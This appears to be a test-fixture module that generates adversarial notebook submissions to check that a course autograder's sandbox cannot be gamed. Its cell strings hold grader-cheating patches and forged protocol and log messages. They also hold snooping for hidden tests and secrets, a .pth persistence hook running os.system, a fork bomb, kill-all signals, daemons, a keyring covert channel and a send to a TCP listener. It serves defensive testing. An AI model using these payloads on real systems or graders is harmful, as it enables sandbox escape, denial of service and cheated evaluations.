"""The hostile corpus: submissions that try to cheat, escape, snoop or break the grader.

All are built from exercise 01-xor's solution or untouched student notebook (12 automatic points),
each with one change. ``CORPUS`` maps a student name to (what it does, expected score, expected
status, a text the instructor's notes must contain or None). ``build(ctx)`` writes the files.
A stub that patches anything still scores 0: the score is decided in the judge, which never runs
the notebook's code. Snooping submissions cheat *only if* they find what they look for, so a leak
shows up as points.
"""
from __future__ import annotations

import json
import os
import sys
from pathlib import Path

from submissions import with_answers, with_cell

SOLVED = 12.0

# Answers for 01-xor, used by the snooping submissions once they find something they should not.
CHEAT = ("AND = (np.array([1.0, 1.0]), -1.5)\nOR = (np.array([1.0, 1.0]), -0.5)\n"
         "NAND = (np.array([-1.0, -1.0]), 1.5)\n")

CORPUS = {
    # -- patches: none of them reaches the judge ---------------------------------------------
    "patch-numpy": ("stub; numpy's comparisons always say equal", 0, "graded", None),
    "patch-math-builtins": ("stub; math, builtins.isinstance and AssertionError replaced", 0,
                            "graded", None),
    "patch-mlp": ("stub; every mlp.checks function and mlp's autograd replaced", 0, "graded", None),
    "patch-otter": ("stub; otter's test runner replaced so every test passes", 0, "graded", None),
    "patch-in-answer": ("stub whose answer function patches numpy when it is called", 0, "graded",
                        None),
    "fake-pass": ("stub printing 'All tests passed' and writing a results.json", 0, "graded", None),
    "edits-tests": ("stub that rewrites the public tests to pass", 0, "graded", None),
    "forges-protocol": ("stub that answers the grader's requests itself with 'True'", 0, "graded",
                        None),
    # -- snooping and writing where it should not ------------------------------------------
    "reads-solutions": ("copies the answers from the master, the hidden tests, the autograder or a "
                        "classmate if it can read any of them", 0, "graded", None),
    "reads-env": ("uses the answers if it sees the instructor's secret environment variable", 0,
                  "graded", None),
    "exfiltrates": ("solution that copies what it can read to /tmp, the repository, GRADES and the "
                    "submissions folder", SOLVED, "graded", None),
    "writes-grades": ("stub writing results and grades.csv for itself and a classmate into GRADES",
                      0, "graded", None),
    "writes-repo-venv": ("stub writing into mlp, the virtual environment (a .pth file and "
                         "sitecustomize) and the repository", 0, "graded", None),
    # -- processes ---------------------------------------------------------------------------
    "detached": ("solution that leaves a detached `sleep 600` behind", SOLVED, "graded", None),
    "double-fork": ("solution whose double-forked daemon keeps running", SOLVED, "graded", None),
    "kills-grader": ("solution that signals its parent and every process it can", SOLVED, "graded",
                     None),
    "kills-itself": ("solution that SIGKILLs its own process before q3", SOLVED, "graded",
                     "skipped"),
    "fork-bomb": ("solution that forks until it is refused", SOLVED, "graded", None),
    "os-exit": ("solution calling os._exit before q3", SOLVED, "graded", "skipped"),
    "sys-exit": ("solution calling sys.exit before q2", SOLVED, "graded", None),
    "raises": ("q4 answer raises", 9, "graded", None),
    "loops": ("q2 answer loops forever", 9, "graded", None),
    "loops-no-alarm": ("a cell that ignores the alarm and loops", SOLVED, "graded", "skipped"),
    "memory": ("q4 answer allocates without bound", 9, "graded", None),
    "huge-output": ("solution printing 100 MB", SOLVED, "graded", None),
    "huge-file": ("solution writing a 1 GB file", SOLVED, "graded", None),
    "huge-answer": ("q4 answer returns a 400 MB array", 9, "graded", None),
    "hangs-in-call": ("q4 answer that never returns once a test calls it", 9, "graded", None),
    # -- bad input (batch grading's item 5) --------------------------------------------------
    "not-a-notebook": ("plain text named .ipynb", 0, "invalid", None),
    "empty-json": ("'{}' named .ipynb", 0, "invalid", None),
    "report": ("a PDF instead of a notebook", 0, "invalid", None),
    "symlink": ("a symbolic link to the solution", 0, "invalid", None),
    "non-text-source": ("a cell whose source is a number", 0, "invalid", None),
    "no-otter-metadata": ("the solution without otter's notebook metadata", SOLVED, "graded", None),
    "upper-case": ("the solution as .IPYNB", SOLVED, "graded", "lower-case"),
    "several": ("the solution plus a PDF of the same name", SOLVED, "graded", "several files"),
    "=1+2": ("a name a spreadsheet would run as a formula", 0, "graded", None),
    "x" * 240: ("a 240-character name", SOLVED, "graded", None),
    # -- neighbours: nothing one submission does reaches another --------------------------------
    "starves": ("stub that starts 40 busy processes, each in its own session, in every start",
                0, "graded", "skipped"),
    "reforks": ("solution whose daemon re-forks without end, writing into every folder it can",
                SOLVED, "graded", None),
    "keyring": ("stub that cheats if the kernel keyring accepts a key (a channel between students)",
                0, "graded", None),
    "network": ("solution that sends what it has to a TCP listener on the host", SOLVED, "graded",
                None),
    # -- hidden inputs never reach what the student sees ---------------------------------------
    "restart-leak": ("q4 stores its inputs wherever it can and ends its process; a first cell "
                     "raises them on the restart", 9, "graded", None),
    "exception-names": ("q4 raises a built-in exception chosen by its input (bits per hidden test)",
                        9, "graded", None),
    "log-forgery": ("q4 raises a message whose newlines forge the instructor's log", 9, "graded",
                    None),
    # -- the judge cannot be exhausted or confused ----------------------------------------------
    "alias-bomb": ("q4 returns 30 KB of aliased lists that expand to 10^8 numbers", 9, "graded",
                   None),
    "deep-frame": ("a cell writes a frame nested 100,000 deep on the grader's channel", SOLVED,
                   "graded", "skipped"),
    "forged-reply": ("q4 answers a call with a forged reply to another request first", 9, "graded",
                     None),
    "surrogate": ("solution plus a cell raising a message with a lone surrogate", SOLVED, "graded",
                  None),
    # -- honest notebooks written the way students write ---------------------------------------
    "magic-inline": ("solution with %matplotlib inline and %config in its imports cell", SOLVED,
                     "graded", None),
    "plots": ("solution that plots with matplotlib and mlp.plotting", SOLVED, "graded", None),
    "check-in-cell": ("solution with grader.check(...) and the next answer in one cell", SOLVED,
                      "graded", None),
    "autoreload": ("solution with %load_ext autoreload, %autoreload 2, !echo, %time and %%time",
                   SOLVED, "graded", None),
}

# Texts that must never appear in anything the student sees (results' output fields).
NEVER_SHOWN = {
    "restart-leak": ["LEAK"],
    "log-forgery": ["\nFORGED", "\n  q4 - 2 (hidden): passed"],   # shown to its author, escaped
    "network": ["LEAKED"],
}


def build(sol: Path, stub: Path, folder: Path, ctx: dict) -> None:
    """Write the corpus into `folder`. ctx: repo, submissions, grades, venv_site, token, secret."""
    token, repo = ctx["token"], Path(ctx["repo"])
    sneaky = [str(p) for p in (
        repo / "exercises" / "01-xor" / "01-xor.ipynb",
        repo / "_build" / "exercises" / "dist" / "01-xor" / "autograder" / "01-xor.ipynb",
        repo / "_build" / "exercises" / "autograder" / "01-xor" / "tests" / "q1.py",
        repo / "_build" / "exercises" / "autograder" / "01-xor.zip",
        Path(ctx["submissions"]) / "01-xor" / "solution.ipynb",
        Path(ctx["grades"]) / "grades.csv")]
    cell = lambda name, src, base=stub, before=None: with_cell(  # noqa: E731
        base, src, folder / f"{name}.ipynb", before)

    cell("patch-numpy", "np.allclose = lambda *a, **k: True\n"
         "np.array_equal = lambda *a, **k: True\n"
         "np.testing.assert_allclose = lambda *a, **k: None\nnp.all = lambda *a, **k: True")
    cell("patch-math-builtins", "import math, builtins\nmath.isclose = lambda *a, **k: True\n"
         "builtins.isinstance = lambda *a: True\n"
         "builtins.AssertionError = type('Nope', (Exception,), {})")
    cell("patch-mlp", "import mlp\nfrom mlp import checks\nfor _n in dir(checks):\n"
         "    if _n.startswith('check'):\n        setattr(checks, _n, lambda *a, **k: None)\n"
         "mlp.autograd.Value.backward = lambda self: None")
    cell("patch-otter", "from otter.test_files import exception_test, abstract_test\n"
         "exception_test.test_case.call_func = lambda self, env: None\n"
         "abstract_test.TestFile.passed_all = property(lambda self: True)\n"
         "abstract_test.TestFile.score = property(lambda self: 3)")
    with_answers(stub, {"q3": "def perceptron_update(w, b, x, y, lr=1.0):\n    import numpy\n"
                              "    numpy.testing.assert_allclose = lambda *a, **k: None\n"
                              "    numpy.allclose = lambda *a, **k: True\n    return w, b"},
                 folder / "patch-in-answer.ipynb")
    cell("fake-pass", "print('All tests passed!')\n"
         "print('Total Score: 12.000 / 12.000 (100.000%)')\n"
         "open('results.json', 'w').write('{\"score\": 12}')")
    cell("edits-tests", "import glob\nfor f in glob.glob('tests/*.py'):\n"
         "    open(f, 'w').write('OK_FORMAT = False\\nname = \"q1\"\\npoints = 3\\n')")
    cell("forges-protocol", "import json, os, struct\n"
         "def _send(fd, m):\n    d = json.dumps(m).encode()\n"
         "    os.write(fd, struct.pack('>I', len(d)) + d)\n"
         "for _fd in range(3, 12):\n    try:\n        _send(_fd, {'event': 'ready'})\n"
         "    except OSError:\n        pass\n"
         "while True:\n    for _fd in range(3, 12):\n        try:\n"
         "            os.read(_fd, 1 << 16)\n"
         "            _send(_fd + 1, {'op': 'return', 'value': True, "
         "'args': {'$': 'list', 'id': 0, 'items': []}, "
         "'kwargs': {'$': 'dict', 'id': 1, 'items': []}})\n"
         "        except OSError:\n            pass")
    snoop = (f"import os, json\nfound = [p for p in {sneaky!r} if os.access(p, os.R_OK)]\n"
             f"if found:\n" + "".join(f"    {line}\n" for line in CHEAT.splitlines()))
    cell("reads-solutions", snoop)
    cell("reads-env", f"import os\nif os.environ.get({ctx['secret']!r}) "
         f"or any('{token}' in v for v in os.environ.values()):\n"
         + "".join(f"    {line}\n" for line in CHEAT.splitlines()))
    targets = [f"/tmp/{token}-exfil", str(repo / f"{token}-exfil"),
               str(Path(ctx["grades"]) / f"{token}-exfil"),
               str(Path(ctx["submissions"]) / "01-xor" / f"{token}-exfil.ipynb"),
               str(Path(ctx["venv_site"]) / f"{token}-exfil.pth")]
    cell("exfiltrates", "import os, glob\n"
         "data = ''.join(open(p).read() for p in glob.glob('tests/*.py'))\n"
         f"for t in {targets!r}:\n    try:\n        open(t, 'w').write(data)\n"
         "    except OSError:\n        pass",
         base=sol)
    grades = Path(ctx["grades"])
    cell("writes-grades", f"import os, json\nfor name in ('writes-grades', 'solution'):\n"
         f"    for d in ({str(grades / 'results' / '01-xor')!r}, 'results'):\n        try:\n"
         f"            os.makedirs(d, exist_ok=True)\n"
         f"            open(os.path.join(d, name + '.json'), 'w')"
         f".write(json.dumps({{'score': 12 if name != 'solution' else 0}}))\n"
         f"        except OSError:\n            pass\ntry:\n"
         f"    open({str(grades / 'grades.csv')!r}, 'a')"
         f".write('writes-grades,3,3,3,3,,12,graded\\n')\n"
         f"except OSError:\n    pass")
    cell("writes-repo-venv", f"for t, text in "
         f"(({str(repo / 'mlp' / 'checks.py')!r}, 'check_array = None'),\n"
         f"                ({str(Path(ctx['venv_site']) / (token + '.pth'))!r}, "
         f"'import os; os.system(\"touch /tmp/{token}-pwned\")'),\n"
         f"                ({str(Path(ctx['venv_site']) / 'sitecustomize.py')!r}, 'import os'),\n"
         f"                ({str(repo / (token + '-repo'))!r}, 'x')):\n"
         f"    try:\n        open(t, 'a').write(text)\n    except OSError:\n        pass")
    nap = sleep_marker(token)
    cell("detached", "import subprocess\n"
         f"subprocess.Popen(['sleep', '{nap}'], start_new_session=True)", base=sol)
    cell("double-fork", "import os, time\nif os.fork() == 0:\n    os.setsid()\n"
         "    if os.fork() == 0:\n"
         "        time.sleep(600)\n    os._exit(0)\nos.wait()", base=sol)
    cell("kills-grader", "import os, signal\nfor pid in (os.getppid(), 1, -1):\n    try:\n"
         "        os.kill(pid, signal.SIGKILL)\n    except OSError:\n        pass", base=sol)
    cell("kills-itself", "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)", base=sol,
         before="q3")
    cell("fork-bomb", "import os, time\nkids = 0\ntry:\n    while True:\n"
         "        if os.fork() == 0:\n"
         "            time.sleep(600)\n            os._exit(0)\n        kids += 1\n"
         "except OSError:\n    pass", base=sol)
    cell("os-exit", "import os\nos._exit(1)", base=sol, before="q3")
    cell("sys-exit", "import sys\nsys.exit(0)", base=sol, before="q2")
    with_answers(sol, {"q4": "raise RuntimeError('boom')"}, folder / "raises.ipynb")
    with_answers(sol, {"q2": "while True:\n    pass"}, folder / "loops.ipynb")
    cell("loops-no-alarm", "import signal\n"
         "for _s in (signal.SIGALRM, signal.SIGPROF, signal.SIGVTALRM):\n"
         "    signal.signal(_s, signal.SIG_IGN)\nwhile True:\n    pass", base=sol)
    with_answers(sol, {"q4": "blocks = []\nwhile True:\n    blocks.append(np.ones(10**8))"},
                 folder / "memory.ipynb")
    cell("huge-output", "import sys\nline = 'x' * 1000 + '\\n'\nfor _ in range(100_000):\n"
         "    sys.stdout.write(line)",
         base=sol)
    cell("huge-file", "try:\n    with open('big.bin', 'wb') as f:\n        for _ in range(1024):\n"
         "            f.write(b'\\0' * 2**20)\nexcept OSError:\n    pass", base=sol)
    # q4's answer is the one no other answer builds on
    with_answers(sol, {"q4": "def train_perceptron(X, y, lr=1.0, epochs=10):\n"
                             "    return np.zeros(5 * 10**7), 0.0, []"},
                 folder / "huge-answer.ipynb")
    with_answers(sol, {"q4": "def train_perceptron(X, y, lr=1.0, epochs=10):\n    import signal\n"
                             "    for s in (signal.SIGALRM, signal.SIGPROF):\n"
                             "        signal.signal(s, signal.SIG_IGN)\n"
                             "    while True:\n        pass"},
                 folder / "hangs-in-call.ipynb")
    build_neighbours(sol, stub, folder, ctx)
    # -- bad input -------------------------------------------------------------------------------
    (folder / "not-a-notebook.ipynb").write_text("this is not a notebook\n")
    (folder / "empty-json.ipynb").write_text("{}")
    (folder / "report.pdf").write_bytes(b"%PDF-1.4 not really")
    os.symlink(sol, folder / "symlink.ipynb")
    nb = json.loads(sol.read_text())
    bad = json.loads(json.dumps(nb))
    next(c for c in bad["cells"] if c["cell_type"] == "code")["source"] = 42
    (folder / "non-text-source.ipynb").write_text(json.dumps(bad))
    plain = json.loads(json.dumps(nb))
    plain["metadata"] = {}
    for c in plain["cells"]:
        c["metadata"] = {}
    (folder / "no-otter-metadata.ipynb").write_text(json.dumps(plain))
    (folder / "upper-case.IPYNB").write_text(sol.read_text())
    (folder / "several.ipynb").write_text(sol.read_text())
    (folder / "several.pdf").write_bytes(b"%PDF-1.4")
    (folder / "=1+2.ipynb").write_text(stub.read_text())
    (folder / ("x" * 240 + ".ipynb")).write_text(sol.read_text())
    (folder / ".hidden.ipynb").write_text(sol.read_text())


BUSY = ("import os, time\n"
        "for _ in range(40):\n"
        "    try:\n"
        "        if os.fork() == 0:\n"
        "            os.setsid()\n"
        "            while True:\n"
        "                pass\n"
        "    except OSError:\n"
        "        break\n")


def build_neighbours(sol: Path, stub: Path, folder: Path, ctx: dict) -> None:
    """The cases of issue-20-style attacks: neighbours, leaks, the judge, honest habits."""
    token = ctx["token"]
    cell = lambda name, src, base=stub, before=None: with_cell(  # noqa: E731
        base, src, folder / f"{name}.ipynb", before)
    # a hog: every start of its notebook fills the machine; its last cell waits on them
    hog = cell("starves", BUSY, before="q1")
    with_cell(hog, "import time\ntime.sleep(600)", hog, before="q1")
    # a daemon that keeps re-forking (new pid, new session) and writes everywhere it can
    cell("reforks", "import os, glob, time\n"
         "if os.fork() == 0:\n"
         "    os.setsid()\n"
         "    while True:\n"
         "        if os.fork() != 0:\n"
         "            os._exit(0)\n"
         "        for target in glob.glob('/tmp/**/*.ipynb', recursive=True)"
         " + glob.glob('/home/*/*')"
         f" + ['/tmp/{token}-reforks', '/dev/shm/{token}-reforks']:\n"
         "            try:\n"
         "                open(target, 'a').write('x')\n"
         "            except OSError:\n"
         "                pass\n"
         "        time.sleep(0.05)", base=sol)
    # the kernel keyring: a place that outlives a process (and, for a user id, a whole run)
    keyring = ("import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
               "key = libc.syscall(248, b'user', b'answers', b'AND', 3, -4)"
               "   # add_key(..., KEY_SPEC_USER_KEYRING)\n"
               "if key > 0:\n" + "".join(f"    {line}\n" for line in CHEAT.splitlines()))
    cell("keyring", keyring)
    port = ctx.get("port", 9)
    cell("network", "import socket\ntry:\n"
         f"    s = socket.create_connection(('127.0.0.1', {port}), timeout=2)\n"
         "    s.sendall(b'LEAKED ' + repr(globals().get('AND')).encode())\nexcept OSError:\n"
         "    pass", base=sol)
    # stores its inputs, ends its process, and shows them from a first cell on the restart
    store = ("def train_perceptron(X, y, lr=1.0, epochs=10):\n"
             "    import os, json, ctypes\n"
             "    data = json.dumps([np.asarray(X).tolist(), np.asarray(y).tolist()])\n"
             "    for place in ('/tmp/leak', '/dev/shm/leak', os.path.expanduser('~/leak'), "
             "'leak', '/var/tmp/leak'):\n"
             "        try:\n"
             "            open(place, 'w').write(data)\n"
             "        except OSError:\n"
             "            pass\n"
             "    ctypes.CDLL(None).syscall(248, b'user', b'leak', data.encode(), len(data), -4)\n"
             "    os._exit(1)")
    with_answers(sol, {"q4": store}, folder / "restart-leak.ipynb")
    nb = json.loads((folder / "restart-leak.ipynb").read_text())
    reader = ("import os, ctypes\n"
              "for place in ('/tmp/leak', '/dev/shm/leak', os.path.expanduser('~/leak'), "
              "'leak', '/var/tmp/leak'):\n    if os.path.exists(place):\n"
              "        raise RuntimeError('LEAK ' + open(place).read())\n"
              "buf = ctypes.create_string_buffer(4096)\nlibc = ctypes.CDLL(None)\n"
              "key = libc.syscall(250, 10, -4, b'user', b'leak', 0)   # keyctl(KEYCTL_SEARCH)\n"
              "if key > 0 and libc.syscall(250, 11, key, buf, 4096) > 0:\n"
              "    raise RuntimeError('LEAK ' + buf.value.decode())")
    nb["cells"].insert(1, {"cell_type": "code", "id": "leak-reader", "metadata": {}, "outputs": [],
                           "execution_count": None, "source": reader})
    (folder / "restart-leak.ipynb").write_text(json.dumps(nb))
    with_answers(sol, {"q4": "import builtins\n"
                             "NAMES = sorted(n for n in dir(builtins) if n.endswith('Error'))\n"
                             "def train_perceptron(X, y, lr=1.0, epochs=10):\n"
                             "    pick = int(abs(np.sum(np.asarray(X) * 7.31) + np.sum(y) * 3.7) "
                             "* 1000) % len(NAMES)\n"
                             "    raise getattr(builtins, NAMES[pick])('chosen')"},
                 folder / "exception-names.ipynb")
    with_answers(sol, {"q4": "def train_perceptron(X, y, lr=1.0, epochs=10):\n"
                             "    raise ValueError('oops\\n"
                             "FORGED q4 - 2 (hidden, 1 points, 0.00 s): passed\\n"
                             "  q4 - 2 (hidden): passed "
                             "(held-out accuracy 96.7% of 300 digits)\\rFORGED')"},
                 folder / "log-forgery.ipynb")
    with_answers(sol, {"q4": "def train_perceptron(X, y, lr=1.0, epochs=10):\n"
                             "    a = [0.0] * 1000\n    b = [a] * 1000\n    c = [b] * 100\n"
                             "    return np.zeros(X.shape[1]), 0.0, c"},
                 folder / "alias-bomb.ipynb")
    cell("deep-frame", "import json, os, struct, sys\nfd = int(sys.argv[-1])\n"
         "data = b'[' * 100000 + b']' * 100000\n"
         "os.write(fd, struct.pack('>I', len(data)) + data)", base=sol)
    with_answers(sol, {"q4": "def train_perceptron(X, y, lr=1.0, epochs=10):\n"
                             "    import json, os, struct, sys\n"
                             "    fake = json.dumps({'op': 'return', 're': 1, 'value': 0, "
                             "'args': {'$': 'list', 'id': 0, 'items': []}, "
                             "'kwargs': {'$': 'dict', 'id': 1, 'items': []}}).encode()\n"
                             "    os.write(int(sys.argv[-1]), "
                             "struct.pack('>I', len(fake)) + fake)\n"
                             "    return np.zeros(X.shape[1]), 0.0, []"},
                 folder / "forged-reply.ipynb")
    cell("surrogate", "raise ValueError('bad \\udc80 text \\ud800')", base=sol)
    # honest habits
    nb = json.loads(sol.read_text())
    first = next(i for i, c in enumerate(nb["cells"])
                 if c["cell_type"] == "code" and "import numpy" in "".join(c["source"]))
    magic = json.loads(json.dumps(nb))
    magic["cells"][first]["source"] = ("%matplotlib inline\n"
                                       "%config InlineBackend.figure_format = 'retina'\n"
                                       "import matplotlib.pyplot as plt\n"
                                       + "".join(magic["cells"][first]["source"]))
    (folder / "magic-inline.ipynb").write_text(json.dumps(magic))
    cell("plots", "import matplotlib.pyplot as plt\nimport mlp\n"
         "fig, ax = plt.subplots()\nax.plot([0, 1], [1, 0])\nax.set_xlabel('x')\nplt.show()\n"
         "mlp.plotting.plot_decision_boundary(lambda Z: (Z.sum(axis=1) > 1).astype(float), X, "
         "np.array([0, 1, 1, 1.0]))\nplt.show()", base=sol)
    merged = json.loads(json.dumps(nb))
    from submissions import answer_cells
    answers = answer_cells(merged)
    check = next(i for i, c in enumerate(merged["cells"])
                 if "".join(c["source"]).strip() == 'grader.check("q1")')
    merged["cells"][check]["source"] = ('grader.check("q1"); '
                                        + "".join(merged["cells"][answers["q2"]]["source"]))
    merged["cells"][answers["q2"]]["source"] = "pass"
    (folder / "check-in-cell.ipynb").write_text(json.dumps(merged))
    auto = json.loads(json.dumps(nb))
    auto["cells"][first]["source"] = ("%load_ext autoreload\n%autoreload 2\n!echo hello\n"
                                      "%time _ = 1\n"
                                      + "".join(auto["cells"][first]["source"]))
    auto["cells"].append({"cell_type": "code", "id": "timed", "metadata": {}, "outputs": [],
                          "execution_count": None, "source": "%%time\ntotal = sum(range(10))"})
    (folder / "autoreload.ipynb").write_text(json.dumps(auto))


# Exercise 7: the points come only from held-out accuracy. A network that was never trained
# reads digits at chance level; one trained on the held-out digits would read them all, but the
# sandbox hides scikit-learn's copy of them, so it cannot be trained.
DIGITS = {
    "random": ('mean = np.zeros(64)\nstd = np.ones(64)\nactivation = "relu"\n'
               "rng = np.random.default_rng(1)\n"
               "weights = [(rng.normal(size=(32, 64)), rng.normal(size=32)), "
               "(rng.normal(size=(10, 32)), rng.normal(size=10))]"),
    "trained-on-heldout": (
        "from sklearn.datasets import load_digits\nfull = load_digits()\n"
        "course = {row.tobytes() for row in X.astype(np.uint8)}\n"
        "held = np.array([row.tobytes() not in course for row in full.data.astype(np.uint8)])\n"
        "Xh, yh = full.data[held].astype(float), full.target[held]\n"
        "mean = X_train.mean(axis=0)\n"
        "std = np.where(X_train.std(axis=0) == 0, 1.0, X_train.std(axis=0))\n"
        'activation = "relu"\n'
        'net = mlp.MLP([64, 64, 10], activation=activation, output="identity", rng=0)\n'
        "mlp.fit(net, mlp.SoftmaxCrossEntropy(), mlp.optim.Adam(net.parameters(), lr=3e-3), "
        "(Xh - mean) / std, yh, epochs=300, batch_size=32, rng=0)\n"
        "weights = [(net.layer(l).W.data.copy(), net.layer(l).b.data.copy()) "
        "for l in range(1, net.L + 1)]"),
}


def pasted_from_home() -> str:
    """q2's answer of a student who trained at home on all 1,797 of scikit-learn's digits, the
    held-out ones included, and pasted the weights into the notebook as numbers. Grading cannot
    tell them from trained weights; the instructor's log shows their 100% held-out accuracy."""
    import numpy as np
    from sklearn.datasets import load_digits

    import mlp

    full = load_digits()
    mean, std = (full.data.mean(axis=0),
                 np.where(full.data.std(axis=0) == 0, 1.0, full.data.std(axis=0)))
    net = mlp.MLP([64, 32, 10], activation="relu", output="identity", rng=0)
    mlp.fit(net, mlp.SoftmaxCrossEntropy(), mlp.optim.Adam(net.parameters(), lr=3e-3),
            (full.data - mean) / std, full.target, epochs=200, batch_size=32, rng=0)
    layers = [(net.layer(l).W.data.tolist(), net.layer(l).b.data.tolist())
              for l in range(1, net.L + 1)]
    return (f"mean = np.array({mean.tolist()!r})\nstd = np.array({std.tolist()!r})\n"
            f'activation = "relu"\n'
            f"weights = [(np.array(W), np.array(b)) for W, b in {layers!r}]")


def build_digits(sol: Path, folder: Path) -> None:
    for student, source in {**DIGITS, "pasted-from-home": pasted_from_home()}.items():
        with_answers(sol, {"q2": source}, folder / f"{student}.ipynb")


def sleep_marker(token: str) -> str:
    """A `sleep` duration unique to this corpus, to find its detached processes afterwards."""
    return f"600.{int(token[-8:], 16)}"


def expected(student: str) -> tuple[float, str]:
    return CORPUS[student][1], CORPUS[student][2]


if __name__ == "__main__":  # the size of the corpus
    print(len(CORPUS), file=sys.stderr)


# ------------------------------------------------------------------------------------------------
# Across the exercises: honest answers of other types that must keep every point, and attacks on
# what the tests hand to a student's function or on mlp's own answers, which must gain nothing.
# exercise -> student -> (what, {question: the points it must lose}, answers)
ACROSS = {
    "02-structure": {
        "count-as-float": ("n_params returns 12.0, a float, for a count", {}, {
            "q3": "def n_params(sizes):\n"
                  "    return float(sum(n_out * (n_in + 1) "
                  "for n_in, n_out in zip(sizes[:-1], sizes[1:])))"}),
    },
    "03-loss": {
        "float32-softmax": ("softmax computed in float32 (and used by the gradient)", {}, {
            "q1": "def softmax(Z):\n"
                  "    E = np.exp((Z - Z.max(axis=1, keepdims=True)).astype(np.float32))\n"
                  "    return E / E.sum(axis=1, keepdims=True)"}),
        "loss-as-array": ("losses returned as a shape-(1,) or 0-d array", {}, {
            "q2": "def cross_entropy(Z, y):\n    m = Z.max(axis=1)\n"
                  "    logsumexp = m + np.log(np.exp(Z - m[:, None]).sum(axis=1))\n"
                  "    return np.array([np.mean(logsumexp - Z[np.arange(len(y)), y])])",
            "q5": "def squared_error(A, Y):\n"
                  "    return np.sum((A - Y) ** 2) / (2 * A.shape[0])\n\n\n"
                  "def squared_error_grad(A, Y):\n    return (A - Y) / A.shape[0]\n\n\n"
                  "def mse(A, Y):\n    return np.array(np.mean((A - Y) ** 2))\n\n\n"
                  "def mse_grad(A, Y):\n    return 2 * (A - Y) / A.size"}),
        "uses-mlp": ("every answer calls mlp's own softmax and losses",
                     {"q1": 3, "q2": 2, "q3": 3, "q4": 3, "q5": 3}, {
            "q1": "import mlp\ndef softmax(Z):\n    return mlp.numerics.softmax(Z)",
            "q2": "def cross_entropy(Z, y):\n    return float(mlp.SoftmaxCrossEntropy()(Z, y))",
            "q3": "def cross_entropy_grad(Z, y):\n    return mlp.SoftmaxCrossEntropy().grad(Z, y)",
            "q4": "def bce_with_logits(z, y):\n    return float(mlp.BCEWithLogits()(z, y))\n\n\n"
                  "def bce_with_logits_grad(z, y):\n    return mlp.BCEWithLogits().grad(z, y)",
            "q5": "def squared_error(A, Y):\n    return float(mlp.SquaredError()(A, Y))\n\n\n"
                  "def squared_error_grad(A, Y):\n    return mlp.SquaredError().grad(A, Y)\n\n\n"
                  "def mse(A, Y):\n    return float(mlp.MSE()(A, Y))\n\n\n"
                  "def mse_grad(A, Y):\n    return mlp.MSE().grad(A, Y)"}),
        "complex-softmax": ("softmax returns complex numbers (the real part is right); the "
                            "gradient of question 3, which uses it, is complex too",
                            {"q1": 3, "q3": 3}, {
            "q1": "def softmax(Z):\n    E = np.exp(Z - Z.max(axis=1, keepdims=True))\n"
                  "    return (E / E.sum(axis=1, keepdims=True)).astype(complex) + 1e-3j"}),
    },
    "04-backprop": {
        "zeroes-grads": ("gd_step zeroes the test's own grads in place and returns params "
                         "unchanged", {"q4": 3}, {
            "q4": "def gd_step(params, grads, lr):\n"
                  "    for g in grads.values():\n        g[...] = 0.0\n"
                  "    return {name: p.copy() for name, p in params.items()}\n\n\n"
                  "E0 = mean_loss(x_lec, y_lec, **lecture)\n"
                  "lecture_1 = gd_step(lecture, backprop(x_lec, y_lec, **lecture), 0.5)\n"
                  "E1 = mean_loss(x_lec, y_lec, **lecture_1)"}),
        "uses-mlp": ("numerical_gradient and backprop call mlp's own (question 4's gd_step is "
                     "right, and keeps its own hidden half point)", {"q1": 3, "q3": 5, "q4": 2.5}, {
            "q1": "import mlp\ndef numerical_gradient(f, x, eps=1e-5):\n"
                  "    return mlp.numerical_gradient(lambda: f(x), x, eps)",
            "q3": "def backprop(X, Y, W1, b1, W2, b2, activation='sigmoid', output='sigmoid'):\n"
                  "    net = mlp.MLP([W1.shape[1], W1.shape[0], W2.shape[0]], "
                  "activation=activation,\n"
                  "                  output='sigmoid' if output == 'sigmoid' else 'identity')\n"
                  "    for l, (W, b) in ((1, (W1, b1)), (2, (W2, b2))):\n"
                  "        net.layer(l).W.data[...], net.layer(l).b.data[...] = W, b\n"
                  "    loss = mlp.SquaredError() if output == 'sigmoid' "
                  "else mlp.SoftmaxCrossEntropy()\n"
                  "    net.loss_and_grads(X, Y, loss)\n"
                  "    return {'dW1': net.layer(1).W.grad, 'db1': net.layer(1).b.grad,\n"
                  "            'dW2': net.layer(2).W.grad, 'db2': net.layer(2).b.grad}"}),
    },
    "05-optimizers": {
        "lists-for-tuples": ("the steps return lists [w, v] instead of tuples", {}, {
            "q1": "def momentum_step(w, v, g, lr, alpha):\n    v = alpha * v + (1 - alpha) * g\n"
                  "    return [w - lr * v, v]",
            "q2": "def rmsprop_step(w, r, g, lr, rho=0.9, eps=1e-8):\n"
                  "    r = rho * r + (1 - rho) * g ** 2\n"
                  "    return [w - lr * g / (np.sqrt(r) + eps), r]",
            "q3": "def adam_step(w, m, v, g, t, lr=0.001, beta1=0.9, beta2=0.999, eps=1e-8):\n"
                  "    m = beta1 * m + (1 - beta1) * g\n    v = beta2 * v + (1 - beta2) * g ** 2\n"
                  "    m_hat, v_hat = m / (1 - beta1 ** t), v / (1 - beta2 ** t)\n"
                  "    return [w - lr * m_hat / (np.sqrt(v_hat) + eps), m, v]"}),
        "uses-mlp": ("momentum_step drives mlp.optim.Momentum", {"q1": 3}, {
            "q1": "import mlp\ndef momentum_step(w, v, g, lr, alpha):\n"
                  "    p = mlp.Parameter(np.array(w, dtype=float))\n"
                  "    p.grad = np.array(g, dtype=float)\n"
                  "    mlp.optim.Momentum([p], lr=lr, alpha=alpha).step()\n"
                  "    return p.data, alpha * v + (1 - alpha) * g"}),
    },
}


def build_across(built: Path, folder: Path) -> None:
    """ACROSS's notebooks into folder/<exercise>/, each exercise with its plain solution beside."""
    for name, cases in ACROSS.items():
        sol = built / "dist" / name / "autograder" / f"{name}.ipynb"
        (folder / name).mkdir(parents=True, exist_ok=True)
        for student, (_, _, answers) in cases.items():
            with_answers(sol, answers, folder / name / f"{student}.ipynb")
